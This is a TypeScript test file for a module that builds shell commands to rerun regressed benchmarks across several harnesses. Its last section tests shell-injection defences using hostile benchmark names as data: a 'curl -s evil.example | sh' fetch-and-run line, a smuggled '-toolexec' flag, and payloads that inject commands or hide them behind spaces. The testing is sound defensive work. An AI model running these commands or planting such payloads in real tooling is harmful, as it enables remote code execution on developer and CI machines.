import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { comparison } from '../../../test/support/report-builders.js'
import type { BenchmarkId } from '../../model/benchmark-result.js'
import { rerunFilters, rerunList } from './rerun-filters.js'

const OWN = { foreignHead: false }

const regression = (id: BenchmarkId, format: string, gated = true) =>
  comparison({ id, format, gated, base: 100, head: 130, class: 'regression', strength: 'strong' })
const inconclusive = (id: BenchmarkId, format: string) =>
  comparison({ id, format, base: 100, head: 108, class: 'inconclusive' })
const unchanged = (id: BenchmarkId, format: string) =>
  comparison({ id, format, base: 100, head: 100, class: 'no-change' })
/** A run that failed on `side` ("failed on the PR" for head and both), as compare records it. */
const failed = (id: BenchmarkId, format: string, side: 'head' | 'base' | 'both' = 'head') => {
  const failure = { message: 'could not open input' }
  return {
    ...comparison({ id, format, base: side === 'head' ? 100 : null, head: null, class: 'failed' }),
    failure: {
      side,
      head: side === 'base' ? null : failure,
      base: side === 'head' ? null : failure,
    },
  }
}

describe('rerunList', () => {
  it('names gated regressions and inconclusive comparisons once, in report order', () => {
    const list = rerunList([
      regression({ name: 'BM_A' }, 'google-benchmark-json'),
      unchanged({ name: 'BM_B' }, 'google-benchmark-json'),
      inconclusive({ name: 'BM_C' }, 'google-benchmark-json'),
      regression({ name: 'BM_A' }, 'google-benchmark-json'),
      regression({ name: 'BM_D' }, 'google-benchmark-json', false),
    ])
    expect(list).toEqual(['BM_A', 'BM_C'])
  })

  it('puts the benchmarks that failed on the PR first, and leaves out a failure on base only', () => {
    const comparisons = [
      regression({ name: 'BM_A' }, 'google-benchmark-json'),
      failed({ name: 'BM_Parse' }, 'google-benchmark-json'),
      failed({ name: 'BM_Both' }, 'google-benchmark-json', 'both'),
      failed({ name: 'BM_BaseOnly' }, 'google-benchmark-json', 'base'),
      { ...failed({ name: 'BM_Info' }, 'google-benchmark-json'), gated: false },
    ]
    expect(rerunList(comparisons)).toEqual(['BM_Parse', 'BM_Both', 'BM_A'])
    expect(rerunFilters(comparisons, OWN)).toEqual([
      {
        format: 'google-benchmark-json',
        harness: 'Google Benchmark',
        benchmarks: ['BM_Parse', 'BM_Both', 'BM_A'],
        filter: '^(BM_Parse|BM_Both|BM_A)$',
        command:
          "<benchmark binary> --benchmark_filter='^(BM_Parse|BM_Both|BM_A)$' --benchmark_repetitions=20",
      },
    ])
  })
})

describe('rerunFilters', () => {
  it('gives Google Benchmark an anchored --benchmark_filter that selects exactly those names', () => {
    const [filter] = rerunFilters(
      [
        regression({ name: 'BM_Crc32/1024' }, 'google-benchmark-json'),
        inconclusive({ name: 'BM_Sort<int>/8/real_time' }, 'google-benchmark-json'),
        unchanged({ name: 'BM_Crc32/10240' }, 'google-benchmark-json'),
      ],
      OWN,
    )
    expect(filter?.filter).toBe('^(BM_Crc32/1024|BM_Sort<int>/8/real_time)$')
    expect(filter?.command).toBe(
      "<benchmark binary> --benchmark_filter='^(BM_Crc32/1024|BM_Sort<int>/8/real_time)$' --benchmark_repetitions=20",
    )
    const pattern = new RegExp(filter?.filter ?? '')
    expect(['BM_Crc32/1024', 'BM_Sort<int>/8/real_time'].every((n) => pattern.test(n))).toBe(true)
    expect(
      ['BM_Crc32/10240', 'BM_Crc32/1024/x', 'xBM_Crc32/1024'].some((n) => pattern.test(n)),
    ).toBe(false)
  })

  it('gives go test one alternation per sub-benchmark level, the packages and the procs', () => {
    const [filter] = rerunFilters(
      [
        regression(
          { suite: 'example.com/codec', name: 'BenchmarkDecode/size=1024', procs: 8 },
          'go-test-text',
        ),
        regression(
          { suite: 'example.com/codec', name: 'BenchmarkDecode/size=64', procs: 8 },
          'go-test-text',
        ),
        inconclusive(
          { suite: 'example.com/hash', name: 'BenchmarkCRC32', procs: 8 },
          'go-test-json',
        ),
      ],
      OWN,
    )
    expect(filter).toMatchObject({
      format: 'go-test-text',
      harness: 'go test',
      filter: '^(BenchmarkDecode)$/^(size=1024|size=64)$',
      command:
        "go test -run='^$' -bench='^(BenchmarkDecode)$/^(size=1024|size=64)$' -cpu=8 -count=20 'example.com/codec'",
    })
    expect(
      rerunFilters([inconclusive({ name: 'BenchmarkX.Y', procs: 1 }, 'go-test-json')], OWN)[0]
        ?.command,
    ).toBe("go test -run='^$' -bench='^(BenchmarkX\\.Y)$' -cpu=1 -count=20 ./...")
  })

  it('gives pytest a -k expression of test names, splitting characters -k cannot hold', () => {
    const [filter] = rerunFilters(
      [
        regression({ name: 'tests/test_p.py::test_parse[small]' }, 'pytest-benchmark-json'),
        regression({ name: 'tests/test_p.py::TestIo::test_read[a b,or]' }, 'pytest-benchmark-json'),
      ],
      OWN,
    )
    expect(filter?.filter).toBe('test_parse[small] or (test_read[a and b and or])')
    expect(filter?.command).toBe(
      "pytest --benchmark-only --benchmark-min-rounds=20 -k 'test_parse[small] or (test_read[a and b and or])'",
    )
  })

  it('gives hyperfine its commands with parameters filled in, quoted for the shell', () => {
    const [filter] = rerunFilters(
      [
        regression({ name: "grep -c 'a|b' big.txt | wc -l" }, 'hyperfine-json'),
        regression(
          { name: '{impl}-{mode}', params: { impl: 'fast', mode: 'llvm' } },
          'hyperfine-json',
        ),
      ],
      OWN,
    )
    expect(filter?.filter).toBe("'grep -c '\\''a|b'\\'' big.txt | wc -l' 'fast-llvm'")
    expect(filter?.command).toBe(`hyperfine --runs 30 ${filter?.filter ?? ''}`)
  })

  it('skips formats whose harness cannot select benchmarks', () => {
    expect(rerunFilters([regression({ name: 'fib 20' }, 'catch2-xml')], OWN)).toEqual([])
  })
})

describe('commands built from untrusted names', () => {
  it('never puts a Go package that is not an import path on the command line (it could be a flag)', () => {
    const [filter] = rerunFilters(
      [
        regression({ suite: '-toolexec=/tmp/x', name: 'BenchmarkA', procs: 2 }, 'go-test-text'),
        regression({ suite: 'example.com/ok', name: 'BenchmarkB', procs: 2 }, 'go-test-text'),
      ],
      OWN,
    )
    expect(filter?.command).toBe(
      "go test -run='^$' -bench='^(BenchmarkA|BenchmarkB)$' -cpu=2 -count=20 ./...",
    )
    expect(filter?.command).not.toContain('toolexec')
  })

  it("offers no hyperfine command when the head's results come from a fork: the name is the fork's command", () => {
    const comparisons = [
      regression({ name: 'sleep 0.1; curl -s evil.example | sh' }, 'hyperfine-json'),
      regression({ name: 'BM_A' }, 'google-benchmark-json'),
    ]
    expect(rerunFilters(comparisons, { foreignHead: true }).map((f) => f.format)).toEqual([
      'google-benchmark-json',
    ])
    expect(rerunFilters(comparisons, OWN).map((f) => f.format)).toEqual([
      'hyperfine-json',
      'google-benchmark-json',
    ])
  })

  it('spells out a run of spaces that would push a command out of view', () => {
    const name = `sleep 1${' '.repeat(110)}; curl x|sh`
    const [filter] = rerunFilters([regression({ name }, 'hyperfine-json')], OWN)
    expect(filter?.command).toBe(`hyperfine --runs 30 $'sleep 1${'\\x20'.repeat(110)}; curl x|sh'`)
  })

  it('quotes a failed benchmark with a hostile name as data: one shell word, nothing run', () => {
    const name = "BM_X'; echo INJECTED; echo '$(echo SUBSTITUTED)"
    const [filter] = rerunFilters([failed({ name }, 'google-benchmark-json')], OWN)
    expect(filter?.filter).toBe("^(BM_X'; echo INJECTED; echo '\\$\\(echo SUBSTITUTED\\))$")
    expect(filter?.command).toBe(
      "<benchmark binary> --benchmark_filter='^(BM_X'\\''; echo INJECTED; echo '\\''\\$\\(echo SUBSTITUTED\\))$' --benchmark_repetitions=20",
    )
    // The shell reads the word back as the filter itself, one argument, and runs nothing of it.
    const word = (filter?.command ?? '').split('--benchmark_filter=')[1]?.split(' --benchmark_')[0]
    const printed = execFileSync('bash', ['-c', `printf '%s\\0' ${word ?? ''}`], {
      encoding: 'utf8',
    })
    expect(printed.split('\0')).toEqual([filter?.filter, ''])
    expect(new RegExp(filter?.filter ?? '').test(name)).toBe(true)
  })

  it("offers no command for a hyperfine benchmark that failed on a fork's PR: its name is the fork's command", () => {
    const comparisons = [failed({ name: 'sh run.sh; curl -s evil.example | sh' }, 'hyperfine-json')]
    expect(rerunList(comparisons)).toEqual(['sh run.sh; curl -s evil.example | sh'])
    expect(rerunFilters(comparisons, { foreignHead: true })).toEqual([])
  })
})
